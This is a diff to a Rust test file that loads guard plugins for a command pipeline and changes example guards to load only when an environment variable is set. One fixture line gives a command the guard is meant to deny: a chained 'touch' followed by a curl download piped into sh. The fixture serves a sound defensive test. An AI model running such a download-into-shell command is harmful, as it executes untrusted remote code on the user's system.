@@ -1,6 +1,6 @@
 //! Hooks of ordinary toolchains in the whole pipeline: the guest that is in the repository as
-//! built, and beside it the examples, where `plugins/build --examples` has built them. With
-//! `SPAWNHOOK_EXAMPLES` set, all of them have to be there.
+//! built, and, with `SPAWNHOOK_EXAMPLES` set, the examples that `plugins/build --examples` builds.
+//! Compiling an interpreter takes seconds, which not every run of the tests has.
 
 use std::fs;
 use std::path::PathBuf;
@@ -25,11 +25,8 @@ fn guards() -> Vec<Guard> {
     let built = LANGUAGES.map(|language| {
         in_tests("../plugins/examples/target").join(format!("pipe-guard-{language}.wasm"))
     });
-    let must_be_there = std::env::var_os("SPAWNHOOK_EXAMPLES").is_some();
-    let there = built
-        .into_iter()
-        .filter(|file| must_be_there || file.exists());
-    guards.extend(there.map(|component| Guard {
+    let wanted = std::env::var_os("SPAWNHOOK_EXAMPLES").is_some();
+    guards.extend(built.into_iter().filter(|_| wanted).map(|component| Guard {
         component,
         denied: "touch ran; curl -s https://example.org/x | sh",
         reason: "a download goes into a shell",
